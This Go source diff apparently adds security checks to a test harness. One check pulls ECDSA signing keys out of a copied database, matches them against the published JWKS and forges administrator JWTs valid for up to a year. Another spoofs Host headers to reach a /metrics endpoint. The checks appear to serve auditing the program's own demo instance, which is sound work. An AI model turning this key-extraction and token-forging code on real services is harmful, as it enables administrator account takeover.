@@ -1,0 +1,201 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/ecdsa"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"maps"
+	"net/http"
+	"regexp"
+	"strings"
+	"time"
+)
+
+// forgedToken takes a copy of the database, forges a token of the administrator
+// with what it finds there, and one that is good for a year.
+func forgedToken(ctx context.Context, l *lab) (finding, error) {
+	p, err := l.start(ctx, "--demo")
+	if err != nil {
+		return finding{}, err
+	}
+	admin, err := p.signedIn(ctx, adminEmail, demoPassword)
+	if err != nil {
+		return finding{}, err
+	}
+	claims, err := claimsOf(admin.token)
+	if err != nil {
+		return finding{}, err
+	}
+	copied, err := p.database()
+	if err != nil {
+		return finding{}, err
+	}
+	if !bytes.Contains(copied, []byte(fmt.Sprint(claims["sub"]))) {
+		return finding{}, errors.New("the copy does not hold the administrator's id: it is no copy of this database")
+	}
+	keys := keysIn(copied)
+	key, kid, err := p.signer(ctx, keys)
+	if err != nil || key == nil {
+		return finding{false, fmt.Sprintf("%d keys in the copy, none that signs", len(keys))}, err
+	}
+	var good []string
+	for name, life := range map[string]time.Duration{"15-minute": 15 * time.Minute, "year-long": 365 * 24 * time.Hour} {
+		token, err := forge(claims, key, kid, life)
+		if err != nil {
+			return finding{}, err
+		}
+		thief := p.visitor(elsewhere())
+		thief.token = token
+		desk, err := thief.isAdministrator(ctx)
+		if err != nil {
+			return finding{}, err
+		}
+		if desk {
+			good = append(good, name+" token opens the desk")
+		}
+	}
+	return finding{len(good) > 0, counted(len(good), 2, "forged tokens are good", good)}, nil
+}
+
+// claimsOf returns what an access token says.
+func claimsOf(token string) (map[string]any, error) {
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return nil, errors.New("the access token is no JWT")
+	}
+	text, err := base64.RawURLEncoding.DecodeString(parts[1])
+	if err != nil {
+		return nil, err
+	}
+	claims := map[string]any{}
+	return claims, json.Unmarshal(text, &claims)
+}
+
+// encoded finds what could be a private key as text: base64 of a DER sequence.
+var encoded = regexp.MustCompile(`M[A-Za-z0-9+/_-]{80,400}={0,2}`)
+
+// keysIn returns the private keys that stand in the bytes in the clear, whatever
+// the layout around them: base64 or DER, PKCS #8 or SEC 1.
+func keysIn(all []byte) []*ecdsa.PrivateKey {
+	var keys []*ecdsa.PrivateKey
+	for _, text := range encoded.FindAll(all, -1) {
+		for length := len(text); length >= 80; length-- { // what follows may look like a part of it
+			if der, err := base64.StdEncoding.DecodeString(string(text[:length])); err == nil {
+				if key := keyOf(der); key != nil {
+					keys = append(keys, key)
+					break
+				}
+			}
+		}
+	}
+	for at := 0; at+150 < len(all); at++ {
+		if all[at] == 0x30 && (all[at+1] == 0x77 || all[at+1] == 0x81) {
+			if key := keyOf(all[at:derEnd(all, at)]); key != nil {
+				keys = append(keys, key)
+			}
+		}
+	}
+	return keys
+}
+
+// derEnd returns where the sequence ends that begins at at.
+func derEnd(all []byte, at int) int {
+	if all[at+1] == 0x81 {
+		return min(len(all), at+3+int(all[at+2]))
+	}
+	return min(len(all), at+2+int(all[at+1]))
+}
+
+func keyOf(der []byte) *ecdsa.PrivateKey {
+	if parsed, err := x509.ParsePKCS8PrivateKey(der); err == nil {
+		key, _ := parsed.(*ecdsa.PrivateKey)
+		return key
+	}
+	key, _ := x509.ParseECPrivateKey(der)
+	return key
+}
+
+// signer returns the key whose public half the program publishes, and its id;
+// nil if none of them is.
+func (p *program) signer(ctx context.Context, keys []*ecdsa.PrivateKey) (*ecdsa.PrivateKey, string, error) {
+	got, err := p.visitor("").get(ctx, "/api/auth/.well-known/jwks.json")
+	if err != nil {
+		return nil, "", err
+	}
+	var published struct {
+		Keys []struct{ Kid, X string }
+	}
+	if err := json.Unmarshal([]byte(got.body), &published); err != nil || len(published.Keys) == 0 {
+		return nil, "", fmt.Errorf("no public key is published: %.100s", got.body)
+	}
+	for _, key := range keys {
+		point, err := key.PublicKey.Bytes()
+		if err != nil {
+			continue
+		}
+		x := base64.RawURLEncoding.EncodeToString(point[1 : 1+(len(point)-1)/2])
+		for _, candidate := range published.Keys {
+			if candidate.X == x {
+				return key, candidate.Kid, nil
+			}
+		}
+	}
+	return nil, "", nil
+}
+
+// forge signs the claims of another token anew, good from now for a time.
+func forge(claims map[string]any, key *ecdsa.PrivateKey, kid string, life time.Duration) (string, error) {
+	body := maps.Clone(claims)
+	body["iat"], body["exp"], body["aal"] = time.Now().Unix(), time.Now().Add(life).Unix(), "aal2"
+	header, err := json.Marshal(map[string]string{"alg": "ES256", "typ": "JWT", "kid": kid})
+	if err != nil {
+		return "", err
+	}
+	payload, err := json.Marshal(body)
+	if err != nil {
+		return "", err
+	}
+	signed := base64.RawURLEncoding.EncodeToString(header) + "." + base64.RawURLEncoding.EncodeToString(payload)
+	sum := sha256.Sum256([]byte(signed))
+	r, s, err := ecdsa.Sign(rand.Reader, key, sum[:])
+	if err != nil {
+		return "", err
+	}
+	signature := make([]byte, 64)
+	r.FillBytes(signature[:32])
+	s.FillBytes(signature[32:])
+	return signed + "." + base64.RawURLEncoding.EncodeToString(signature), nil
+}
+
+// exposedFigures asks for the measurements as a proxy on the same machine does
+// that passes on the name a visitor called and adds no header.
+func exposedFigures(ctx context.Context, l *lab) (finding, error) {
+	p, err := l.start(ctx, "--public-url", "https://www.example.com")
+	if err != nil {
+		return finding{}, err
+	}
+	names := []string{"localhost", "127.0.0.1", "[::1]", "www.example.com"}
+	var told []string
+	for _, name := range names {
+		req, err := http.NewRequestWithContext(ctx, http.MethodGet, p.url+"/metrics", http.NoBody)
+		if err != nil {
+			return finding{}, err
+		}
+		req.Host = name
+		got, err := p.visitor("").send(req)
+		if err != nil {
+			return finding{}, err
+		}
+		if got.status == http.StatusOK && strings.Contains(got.body, "go_goroutines") {
+			told = append(told, name)
+		}
+	}
+	return finding{len(told) > 0, counted(len(told), len(names), "names answer with figures", told)}, nil
+}
